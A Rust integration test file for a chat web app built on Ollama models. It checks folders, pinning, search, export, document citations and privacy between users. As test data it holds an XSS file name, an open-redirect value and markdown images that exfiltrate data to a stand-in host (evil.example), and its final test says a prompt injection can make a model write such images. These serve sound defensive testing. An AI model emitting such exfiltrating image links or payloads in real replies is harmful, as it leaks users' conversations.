//! The chat pages beyond a single exchange: folders, pinning, archiving, searching, export,
//! documents with citations, notes, feedback and usage, each as plain forms, and each private to
//! its owner.

use reqwest::StatusCode;
use serde_json::Value;

use crate::fake_ollama::{FakeOllama, platform_on};
use crate::helpers::{Deployment, PASSWORD, eventually};
use crate::web::Browser;

/// A browser signed in as a new user.
async fn member<'a>(d: &'a Deployment, name: &str) -> Browser<'a> {
    let mut b = Browser::new(d);
    b.get("/register").await;
    let email = format!("{name}@example.com");
    let (status, _, page) = b.post("/register", &[("username", name), ("email", &email), ("password", PASSWORD)]).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{page}");
    b.get("/chat").await;
    b
}

/// The id at the end of a redirect (`/chat/{id}`, `/chat?folder={id}`).
fn last_id(location: &str) -> String {
    let id = &location[location.len() - 36..];
    uuid::Uuid::parse_str(id).unwrap_or_else(|_| panic!("no id at the end of {location}"));
    id.to_owned()
}

/// The value of the `<option>` labelled `label`.
fn option(page: &str, label: &str) -> String {
    let end = page.find(&format!("\">{label}</option>")).unwrap_or_else(|| panic!("no option {label}: {page}"));
    page[end - 36..end].to_owned()
}

async fn start_conversation(b: &mut Browser<'_>, title: &str, folder: &str) -> String {
    let (status, location, page) =
        b.post("/chat", &[("model", "alpha:latest"), ("title", title), ("folder", folder)]).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{page}");
    location
}

/// Folders: nested in the sidebar, renamed, moved, deleted only when empty unless asked, and
/// out of reach of anyone else.
#[tokio::test]
async fn web_chat_folders_nest_move_rename_and_delete_privately() {
    let node = FakeOllama::start("filed", &["alpha"]).await;
    let d = platform_on(&[&node], |_| {}).await;
    let mut b = member(&d, "filer").await;

    let (status, location, _) = b.post("/chat/folders", &[("name", "Work"), ("parent", "")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let work = last_id(&location);
    let (_, location, _) = b.post("/chat/folders", &[("name", "Reports"), ("parent", &work)]).await;
    let reports = last_id(&location);
    let (_, _, page) = b.get("/chat").await;
    let (at_work, at_reports) = (page.find(">Work</a>").unwrap(), page.find(">Reports</a>").unwrap());
    assert!(at_work < at_reports, "a folder comes before its subfolders: {page}");
    assert!(page.contains(&format!("<li class=\"depth-1\"><a href=\"/chat?folder={reports}\"")), "{page}");

    // A conversation started in a folder is listed there.
    let conversation = start_conversation(&mut b, "Quarter one", &reports).await;
    let (_, _, page) = b.get(&format!("/chat?folder={reports}")).await;
    assert!(page.contains(&format!("href=\"{conversation}\">Quarter one</a>")), "{page}");

    // Someone else can neither see, rename nor delete these folders.
    let mut other = member(&d, "snoop").await;
    let (_, _, theirs) = other.get("/chat").await;
    assert!(!theirs.contains("Reports") && !theirs.contains("Quarter one"), "{theirs}");
    let (status, _, _) = other.post(&format!("/chat/folders/{reports}"), &[("name", "Mine now")]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _, _) = other.post(&format!("/chat/folders/{work}/delete"), &[("recursive", "on")]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _, _) = other.get(&conversation).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // Renamed, then moved to the top level.
    let (status, _, _) = b.post(&format!("/chat/folders/{reports}"), &[("name", "Quarterly")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, _, page) = b.get(&format!("/chat?folder={reports}")).await;
    let top = option(&page, "(the top level)");
    let (status, _, body) = b.post(&format!("/chat/folders/{reports}"), &[("parent", &top)]).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{body}");
    let (_, _, page) = b.get("/chat").await;
    assert!(
        page.contains(&format!("<li class=\"depth-0\"><a href=\"/chat?folder={reports}\">Quarterly</a>")),
        "{page}"
    );

    // A folder with a conversation in it is deleted only with what it holds.
    let (status, _, page) = b.post(&format!("/chat/folders/{reports}/delete"), &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{page}");
    assert!(b.get(&conversation).await.0 == StatusCode::OK, "refusing deleted nothing");
    let (status, location, _) = b.post(&format!("/chat/folders/{reports}/delete"), &[("recursive", "on")]).await;
    assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, "/chat"));
    assert_eq!(b.get(&conversation).await.0, StatusCode::NOT_FOUND);
    let (_, _, page) = b.get("/chat").await;
    assert!(!page.contains("Quarterly") && page.contains(">Work</a>"), "{page}");
}

/// Conversations: pinned ones first in the sidebar, archived ones only in the archive, found by
/// what was said in them, renamed, moved, exported and deleted — only by their owner.
#[tokio::test]
async fn web_chat_conversations_are_pinned_archived_searched_exported_and_deleted() {
    let node = FakeOllama::start("noted", &["alpha"]).await;
    let d = platform_on(&[&node], |_| {}).await;
    let mut b = member(&d, "keeper").await;
    b.get("/chat").await;
    let alpha = start_conversation(&mut b, "Alpha plans", "").await;
    let beta = start_conversation(&mut b, "Beta notes", "").await;
    let (status, _, page) = b.post(&format!("{beta}/messages"), &[("content", "the kiwi question")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{page}");

    // The newest comes first, unless another is pinned.
    let (_, _, page) = b.get("/chat").await;
    let recent = &page[page.find("class=\"recent\"").unwrap()..];
    assert!(recent.find("Beta notes").unwrap() < recent.find("Alpha plans").unwrap(), "{recent}");
    b.post(alpha.as_str(), &[("pinned", "true"), ("back", "list")]).await;
    let (_, _, page) = b.get("/chat").await;
    let recent = &page[page.find("class=\"recent\"").unwrap()..];
    assert!(recent.find("Alpha plans").unwrap() < recent.find("Beta notes").unwrap(), "{recent}");
    assert!(recent.contains("aria-label=\"Pinned\""), "{recent}");

    // Search finds a conversation by its messages.
    let (_, _, page) = b.get("/chat?q=kiwi").await;
    let main = &page[page.find("class=\"chat-main\"").unwrap()..];
    assert!(main.contains("Beta notes") && !main.contains("Alpha plans"), "{main}");

    // Archived: out of the list and the sidebar, in the archive.
    let (status, location, _) = b.post(beta.as_str(), &[("archived", "true"), ("back", "list")]).await;
    assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, "/chat"));
    let (_, _, page) = b.get("/chat").await;
    assert!(!page.contains("Beta notes"), "{page}");
    let (_, _, page) = b.get("/chat?archived=true").await;
    assert!(page.contains("Beta notes") && page.contains("Unarchive"), "{page}");

    // Renamed and moved from its page; a redirect never goes anywhere the form names.
    let (_, location, _) = b.post("/chat/folders", &[("name", "Fruit"), ("parent", "")]).await;
    let fruit = last_id(&location);
    let (status, location, _) =
        b.post(beta.as_str(), &[("title", "Kiwis"), ("folder", &fruit), ("back", "https://evil.example")]).await;
    assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, beta.as_str()));
    let (_, _, page) = b.get(&format!("/chat?folder={fruit}&archived=true")).await;
    assert!(page.contains("Kiwis"), "{page}");

    // Exported as a file, in Markdown and in the importable JSON.
    let (status, _, markdown) = b.get(&format!("{beta}/export?format=markdown")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(markdown.contains("the kiwi question") && markdown.contains("Kiwis"), "{markdown}");
    let (_, _, json) = b.get(&format!("{beta}/export")).await;
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["format"], "ollamanet.conversation.v1");

    // Nobody else can export, change or delete it.
    let mut other = member(&d, "taker").await;
    assert_eq!(other.get(&format!("{beta}/export")).await.0, StatusCode::NOT_FOUND);
    assert_eq!(other.post(beta.as_str(), &[("title", "Stolen")]).await.0, StatusCode::NOT_FOUND);
    assert_eq!(other.post(&format!("{beta}/delete"), &[]).await.0, StatusCode::NOT_FOUND);
    let (_, _, page) = b.get(&beta).await;
    assert!(page.contains("Kiwis"), "{page}");

    let (status, location, _) = b.post(&format!("{beta}/delete"), &[]).await;
    assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, "/chat"));
    assert_eq!(b.get(&beta).await.0, StatusCode::NOT_FOUND);
}

/// A document attached from the page is processed (the page's script follows it), the next
/// reply cites it, and a reply takes notes and feedback and shows its usage.
#[tokio::test]
async fn web_chat_documents_are_attached_and_cited_and_replies_take_notes_and_feedback() {
    let node = FakeOllama::start("cited", &["alpha", "all-minilm"]).await;
    let d = platform_on(&[&node], |_| {}).await;
    let mut b = member(&d, "reader").await;
    b.get("/chat").await;
    let conversation = start_conversation(&mut b, "Reading", "").await;
    let id = last_id(&conversation);

    // A file's name is shown as text, whatever it holds.
    let name = "<img src=x onerror=alert(1)>mill.txt";
    let (status, location, page) =
        b.post_file(&format!("{conversation}/documents"), name, b"The mill grinds rye on Sundays.").await;
    assert_eq!(
        (status, location.as_str()),
        (StatusCode::SEE_OTHER, format!("{conversation}#documents").as_str()),
        "{page}"
    );
    eventually("the document is processed", async || {
        let (_, _, states) = b.get(&format!("{conversation}/documents")).await;
        let states: Value = serde_json::from_str(&states).unwrap();
        states[0]["status"] == "ready"
    })
    .await;
    let (_, _, page) = b.get(&conversation).await;
    assert!(page.contains("status-ready") && !page.contains("<img src=x"), "{page}");
    assert!(page.contains("&lt;img src=x") || page.contains("&#60;img src=x"), "{page}");

    // Bad uploads get a page that says why; a forged one is refused.
    let (status, _, page) = b.post_file(&format!("{conversation}/documents"), "empty.txt", b"").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{page}");
    assert!(page.contains("Choose a file"), "{page}");
    let mut forger = Browser::new(&d);
    forger.get("/login").await;
    let (_, location, _) = forger.post_file(&format!("{conversation}/documents"), "x.txt", b"forged").await;
    assert_eq!(location, "/login", "only a signed-in owner attaches documents");

    // The reply cites the document and tells its usage.
    b.post(&format!("{conversation}/messages"), &[("content", "When does the mill grind rye?")]).await;
    let (_, _, page) = b.get(&conversation).await;
    let citations = &page[page.find("class=\"citations\"").expect("citations under the reply")..];
    assert!(citations.contains("mill.txt"), "{citations}");
    assert!(page.contains("3 tokens") && page.contains("tokens/s"), "the reply's usage: {page}");

    // Feedback: given, then changed in place.
    let reply = page.rsplit("/regenerate\"").nth(1).and_then(|p| p.rsplit("/messages/").next()).unwrap().to_owned();
    let feedback = format!("{conversation}/messages/{reply}/feedback");
    let (status, location, _) = b.post(&feedback, &[("rating", "up")]).await;
    assert_eq!((status, location), (StatusCode::SEE_OTHER, format!("{conversation}#m-{reply}")));
    let (_, _, page) = b.get(&conversation).await;
    assert!(page.contains("aria-pressed=\"true\">Helpful</button>"), "{page}");
    let given = page.split("name=\"feedback\" value=\"").nth(1).unwrap()[..36].to_owned();
    b.post(&feedback, &[("rating", "down"), ("feedback", &given), ("comment", "")]).await;
    let (_, _, page) = b.get(&conversation).await;
    assert!(page.contains("aria-pressed=\"true\">Not helpful</button>"), "{page}");
    assert!(!page.contains("aria-pressed=\"true\">Helpful</button>"), "{page}");

    // A note on the reply, then deleted.
    let length = page.split("name=\"end\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let (status, _, body) = b
        .post(&format!("{conversation}/messages/{reply}/notes"), &[("text", "check the <b>mill</b>"), ("end", &length)])
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{body}");
    let (_, _, page) = b.get(&conversation).await;
    assert!(
        page.contains("check the &#60;b&#62;mill&#60;/b&#62;") || page.contains("check the &lt;b&gt;mill"),
        "{page}"
    );
    let note = page.split("/notes/").nth(1).unwrap()[..36].to_owned();
    let mut other = member(&d, "meddler").await;
    let (status, _, _) = other.post(&format!("/chat/{id}/notes/{note}/delete"), &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "only its author deletes a note");
    b.post(&format!("{conversation}/notes/{note}/delete"), &[]).await;
    let (_, _, page) = b.get(&conversation).await;
    assert!(!page.contains("check the"), "{page}");

    // Removing the document.
    let document = page.split("/documents/").nth(1).unwrap()[..36].to_owned();
    let (status, _, _) = b.post(&format!("{conversation}/documents/{document}/delete"), &[]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, _, states) = b.get(&format!("{conversation}/documents")).await;
    assert_eq!(states, "[]");
}

/// An address with a malformed id or query (a mistyped or truncated link) gets the site's
/// "not found" page, never a bare error text.
#[tokio::test]
async fn web_chat_malformed_addresses_get_a_page() {
    let node = FakeOllama::start("lost", &["alpha"]).await;
    let d = platform_on(&[&node], |_| {}).await;
    let mut b = member(&d, "wanderer").await;
    for path in
        ["/chat/not-an-id", "/chat?folder=nope", "/chat?archived=maybe", "/chat/1234/export", "/explore?cursor=%ZZ"]
    {
        let (status, _, page) = b.get(path).await;
        assert!(status.is_client_error(), "{path}: {status}");
        assert!(page.contains("<!doctype html>") && page.contains("role=\"alert\""), "{path}: {page}");
    }
    let (status, _, page) = b.post("/chat/not-an-id/stop", &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{page}");
    assert!(page.contains("<!doctype html>"), "{page}");
}

/// A reply that would send the conversation elsewhere through an image (a prompt injection can
/// make a model write one) shows a link instead, and the page lets images load only from this
/// site. The export is a file, never a page.
#[tokio::test]
async fn web_chat_replies_load_no_image_from_elsewhere() {
    let reply = "Here. ![x](https://evil.example/?q=secret) ![](//evil.example/pixel.png) ![ours](/static/app.css)";
    let node = FakeOllama::start(reply, &["alpha"]).await;
    let d = platform_on(&[&node], |_| {}).await;
    let mut b = member(&d, "viewer").await;
    let conversation = start_conversation(&mut b, "Pictures", "").await;
    let (status, _, page) =
        b.post(&format!("{conversation}/messages"), &[("content", "![y](https://evil.example/?q=mine)")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{page}");

    let (status, _, page) = b.get(&conversation).await;
    assert_eq!(status, StatusCode::OK, "{page}");
    let csp = b.last_headers[reqwest::header::CONTENT_SECURITY_POLICY].to_str().unwrap().to_owned();
    assert!(csp.contains("img-src 'self' data:;"), "{csp}");
    let sources: Vec<&str> = page.split("<img").skip(1).map(|tag| tag.split('>').next().unwrap()).collect();
    assert_eq!(sources, [" src=\"/static/app.css\" alt=\"ours\" /"], "only this site's image: {page}");
    assert!(
        page.contains("<a href=\"https://evil.example/?q=secret\" rel=\"noopener noreferrer nofollow\">x</a>"),
        "the image is a link: {page}"
    );
    assert!(page.contains("![y](https://evil.example/?q=mine)"), "the user's message is text: {page}");

    let (status, _, _) = b.get(&format!("{conversation}/export?format=markdown")).await;
    assert_eq!(status, StatusCode::OK);
    let kind = b.last_headers[reqwest::header::CONTENT_TYPE].to_str().unwrap().to_owned();
    assert!(!kind.contains("html"), "{kind}");
}
